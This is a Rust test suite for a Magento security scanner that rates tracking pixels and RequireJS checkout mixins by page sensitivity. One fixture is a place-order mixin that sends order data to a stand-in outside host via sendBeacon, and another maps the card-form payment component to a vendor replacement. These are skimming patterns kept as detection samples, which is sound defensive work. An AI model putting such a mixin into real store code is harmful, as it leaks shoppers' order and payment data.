//! Tracking tags and RequireJS entries on checkout.

use super::*;

const META_SNIPPET: &str = "<script>\n\
!function(f,b,e,v,n,t,s){n=f.fbq=function(){};t=b.createElement(e);t.async=!0;\n\
t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,\n\
'script','https://connect.facebook.net/en_US/fbevents.js');\n\
fbq('init', '<?= $block->getPixelId() ?>');\n\
fbq('track', 'PageView');\n\
</script>\n";

#[test]
fn a_tag_on_an_ordinary_page_is_low_and_its_host_is_a_capability() {
    let sink = scan(
        &[("view/frontend/templates/pixel.phtml", META_SNIPPET)],
        "view/frontend/templates/pixel.phtml",
    );
    assert_eq!(hits(&sink.findings), [("tracking-pixel", 4)]);
    assert_eq!(sink.findings[0].severity, Severity::Low);
    assert_eq!(hosts(&sink), ["connect.facebook.net"]);
}

#[test]
fn a_tag_on_a_checkout_template_is_high() {
    let findings = scan_one("view/frontend/templates/checkout/pixel.phtml", META_SNIPPET);
    assert_eq!(only(&findings, "tracking-pixel").severity, Severity::High);
}

#[test]
fn a_template_placed_by_an_account_layout_is_a_sensitive_page() {
    let layout = "<page><update handle=\"customer_account\"/><body>\
                  <block name=\"px\" template=\"Vendor_Pixel::pixel.phtml\"/></body></page>";
    let files = [
        ("view/frontend/layout/rx_refill_index.xml", layout),
        ("view/frontend/templates/pixel.phtml", META_SNIPPET),
    ];
    let sink = scan(&files, "view/frontend/templates/pixel.phtml");
    let tag = only(&sink.findings, "tracking-pixel");
    assert_eq!(tag.severity, Severity::High);
    assert!(tag.message.contains("customer_account"), "{}", tag.message);
}

#[test]
fn a_tag_call_with_customer_data_is_its_own_finding() {
    let phtml = "<script>\n\
                 gtag('config', 'G-XXXX');\n\
                 gtag('set', 'user_data', {\n\
                     email: '<?= $block->escapeJs($block->getCustomerEmail()) ?>'\n\
                 });\n\
                 ttq.identify({ email: customer.email, phone_number: customer.telephone });\n\
                 pintrk('load', '123', {em: hashed});\n\
                 </script>\n";
    let findings = scan_one("view/frontend/templates/tags.phtml", phtml);
    assert_eq!(
        hits(&findings),
        [
            ("tracking-pixel", 2),
            ("tracking-pixel", 6),
            ("tracking-pixel", 7),
            ("tracking-pixel-with-customer-data", 3),
            ("tracking-pixel-with-customer-data", 6),
            ("tracking-pixel-with-customer-data", 7),
        ]
    );
}

#[test]
fn event_names_and_product_data_are_not_customer_data() {
    let js = "gtag('event', 'purchase', {value: total, items: items, currency: 'USD'});\n\
              fbq('track', 'AddToCart', {content_name: product.name, content_ids: [sku]});\n\
              dataLayer.push({event: 'email_signup_click'});\n";
    let findings = scan_one("view/frontend/web/js/tags.js", js);
    assert_eq!(
        hits(&findings),
        [("tracking-pixel", 1), ("tracking-pixel", 2)]
    );
}

#[test]
fn a_layout_loading_a_tag_on_checkout_is_high() {
    let layout = "<page><head>\n\
                  <script src=\"https://www.googletagmanager.com/gtm.js?id=GTM-1\" src_type=\"url\"/>\n\
                  </head></page>";
    let path = "view/frontend/layout/checkout_index_index.xml";
    let sink = scan(&[(path, layout)], path);
    assert_eq!(hits(&sink.findings), [("tracking-pixel", 2)]);
    assert_eq!(sink.findings[0].severity, Severity::High);
    assert_eq!(hosts(&sink), ["www.googletagmanager.com"]);
}

#[test]
fn words_that_resemble_tags_are_not_tags() {
    let js = "var gtagline = 'x'; function hj2() {} var fbqueue = [];\n";
    assert_eq!(hits(&scan_one("view/frontend/web/js/a.js", js)), []);
}

const MIXIN_CONFIG: &str = "var config = {\n\
    config: {\n\
        mixins: {\n\
            'Magento_Checkout/js/action/place-order': {\n\
                'Vendor_Pay/js/place-order-mixin': true\n\
            },\n\
            'Magento_Catalog/js/price-box': {\n\
                'Vendor_Pay/js/price-box-mixin': true\n\
            }\n\
        }\n\
    }\n\
};\n";

#[test]
fn a_mixin_on_place_order_is_medium_and_names_the_mixin() {
    let path = "view/frontend/requirejs-config.js";
    let findings = scan_one(path, MIXIN_CONFIG);
    assert_eq!(hits(&findings), [("requirejs-checkout-mixin", 5)]);
    assert_eq!(findings[0].severity, Severity::Medium);
    assert!(findings[0]
        .message
        .contains("Vendor_Pay/js/place-order-mixin"));
}

#[test]
fn a_mixin_whose_code_calls_out_is_high() {
    let mixin = "define([], function () { return function (action) {\n\
                 return function (data) {\n\
                 navigator.sendBeacon('https://collect.example-stats.test/o', JSON.stringify(data));\n\
                 return action(data); }; }; });\n";
    let files = [
        ("view/frontend/requirejs-config.js", MIXIN_CONFIG),
        ("view/frontend/web/js/place-order-mixin.js", mixin),
    ];
    let sink = scan(&files, "view/frontend/requirejs-config.js");
    let finding = only(&sink.findings, "requirejs-checkout-mixin");
    assert_eq!(finding.severity, Severity::High);
    assert!(
        finding.message.contains("place-order-mixin.js:3"),
        "{}",
        finding.message
    );
}

#[test]
fn map_and_paths_replacing_payment_components_are_reported() {
    let js = "var config = {\n\
        map: { '*': {\n\
            'Magento_Payment/js/view/payment/cc-form': 'Vendor_Pay/js/cc-form',\n\
            patientPortalSession: 'Vendor_Portal/js/portal-session'\n\
        } },\n\
        paths: { 'Magento_Checkout/js/model/quote': 'Vendor_Pay/js/quote' },\n\
        deps: ['Magento_Checkout/js/model/payment-service', 'Vendor_Pay/js/init']\n\
    };\n";
    let findings = scan_one("view/frontend/requirejs-config.js", js);
    let expected = [3, 6, 7].map(|l| ("requirejs-checkout-mixin", l));
    assert_eq!(hits(&findings), expected);
}
